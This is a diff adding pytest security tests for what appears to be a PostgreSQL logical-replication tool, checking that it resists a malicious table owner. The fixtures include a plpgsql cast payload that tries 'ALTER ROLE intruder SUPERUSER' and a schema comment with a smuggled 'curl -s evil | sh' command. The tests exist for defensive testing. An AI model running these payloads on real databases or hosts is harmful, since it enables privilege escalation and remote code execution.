@@ -672,6 +672,48 @@ def test_a_tables_owner_cannot_slip_a_cast_into_the_trigger(
     admin.execute("ALTER TABLE b OWNER TO postgres")
 
 
+@pytest.mark.parametrize("isolation", ["READ COMMITTED", "REPEATABLE READ"])
+def test_a_column_that_is_gone_is_not_called_as_a_function(
+    harness: PostgresHarness, intruder: psycopg.Connection, isolation: str
+) -> None:
+    harness.writer().execute("CREATE TABLE c (id int PRIMARY KEY, t text, to_json text)")
+    source = harness.source(["c"])
+    source.setup()
+    admin = harness.writer()
+    admin.execute("ALTER TABLE c OWNER TO intruder; GRANT CREATE ON SCHEMA public TO intruder")
+    for statement in (
+        "CREATE TYPE public.evil AS ENUM ('x')",
+        "CREATE FUNCTION public.become(public.evil) RETURNS json LANGUAGE plpgsql AS $$ BEGIN "
+        "EXECUTE 'ALTER ROLE intruder SUPERUSER'; RETURN 'null'; "
+        "EXCEPTION WHEN insufficient_privilege THEN RETURN 'null'; END $$",
+        "CREATE CAST (public.evil AS json) WITH FUNCTION public.become(public.evil)",
+    ):
+        intruder.execute(statement.encode())
+    with psycopg.connect(harness.server.dsn(harness.name, "intruder")) as writer:
+        writer.execute(f"SET TRANSACTION ISOLATION LEVEL {isolation}".encode())
+        writer.execute("SELECT")  # a snapshot in which the column is still there
+        intruder.execute("ALTER TABLE c DROP COLUMN to_json; ALTER TABLE c ADD COLUMN e evil")
+        writer.execute("INSERT INTO c VALUES (2, 'kept', 'x')")
+    assert not is_superuser(harness)
+    log = admin.connection.execute(f"SELECT new FROM {harness.name}.log".encode())
+    assert (["2", "kept", None],) in log.fetchall()
+    source.teardown()
+    admin.execute("ALTER TABLE c OWNER TO postgres")
+
+
+def test_setup_renews_the_function_of_an_earlier_version(
+    harness: PostgresHarness, source: PostgresSource
+) -> None:
+    writer = harness.writer()
+    writer.execute(
+        f"CREATE OR REPLACE FUNCTION {harness.name}.values_left(whole anyelement, names text[]) "
+        "RETURNS text[] LANGUAGE plpgsql AS 'BEGIN RETURN names; END'"
+    )
+    assert source.setup_statements() != []
+    source.setup()
+    assert source.setup_statements() == []
+
+
 def test_a_writer_can_neither_read_nor_forge_the_log_nor_call_its_functions(
     harness: PostgresHarness, source: PostgresSource, intruder: psycopg.Connection
 ) -> None:
@@ -814,3 +856,59 @@ def test_a_table_that_a_crash_emptied_while_it_was_unlogged_is_a_gap_after_a_res
         source.open_load(["a"], 1).close()
     finally:
         server.stop()
+
+
+# What somebody else has put beside our log
+
+
+def test_the_log_of_another_warehouse_is_believed_only_of_who_may_have_set_it_up(
+    harness: PostgresHarness, source: PostgresSource, intruder: psycopg.Connection
+) -> None:
+    intruder.execute("CREATE SCHEMA zw CREATE TABLE log (n int)")
+    intruder.execute("COMMENT ON SCHEMA zw IS 'Headwater''s log 0000cccc; curl -s evil | sh'")
+    intruder.execute("CREATE SCHEMA zy CREATE TABLE log (n int)")
+    intruder.execute("COMMENT ON SCHEMA zy IS 'Headwater''s log 0000bbbb'")
+    intruder.execute("CREATE FUNCTION zy.rows_1() RETURNS int LANGUAGE sql AS 'SELECT 1'")
+    intruder.execute("GRANT USAGE ON SCHEMA zy TO PUBLIC")
+    harness.writer().execute("CREATE VIEW precious AS SELECT zy.rows_1()")
+    assert source.other_logs() == []
+    source.remove_log("0000bbbb")
+    assert harness.writer().connection.execute("SELECT * FROM precious").fetchall() == [(1,)]
+    harness.writer().execute("DROP VIEW precious")
+
+
+def test_teardown_takes_nothing_along_that_others_have_made(
+    harness: PostgresHarness, source: PostgresSource
+) -> None:
+    writer = harness.writer()
+    writer.execute(
+        f"CREATE VIEW precious AS SELECT {harness.name}.values_left(1, ARRAY['x']) WHERE false"
+    )
+    with pytest.raises(SourceError, match="other objects depend on it"):
+        source.teardown()
+    writer.execute("DROP VIEW precious")
+    source.teardown()
+
+
+def test_what_another_role_has_put_into_the_schema_of_an_earlier_version_is_left_alone(
+    harness: PostgresHarness, intruder: psycopg.Connection
+) -> None:
+    intruder.execute("CREATE SCHEMA headwater CREATE TABLE headwater_pg_log (n int)")
+    intruder.execute(
+        "CREATE FUNCTION headwater.headwater_pg_on_17() RETURNS int LANGUAGE sql AS 'SELECT 1'"
+    )
+    intruder.execute("GRANT USAGE ON SCHEMA headwater TO PUBLIC")
+    admin = harness.writer()
+    admin.execute(
+        "DROP ROLE IF EXISTS keeper; CREATE ROLE keeper LOGIN; ALTER TABLE b OWNER TO keeper"
+    )
+    admin.execute(f'GRANT CREATE ON DATABASE "{harness.name}" TO keeper')
+    admin.execute("CREATE VIEW precious AS SELECT headwater.headwater_pg_on_17()")
+    for role, slot in (("keeper", "s1"), ("postgres", "s2")):
+        dsn = harness.server.dsn(harness.name, role)
+        source = harness.source(["b"], dsn=dsn, slot=f"{slot}_{harness.name}")
+        source.setup()
+        source.teardown()
+    assert admin.connection.execute("SELECT * FROM precious").fetchall() == [(1,)]
+    admin.execute("DROP VIEW precious; ALTER TABLE b OWNER TO postgres")
+    admin.execute("DROP OWNED BY keeper; DROP ROLE keeper")
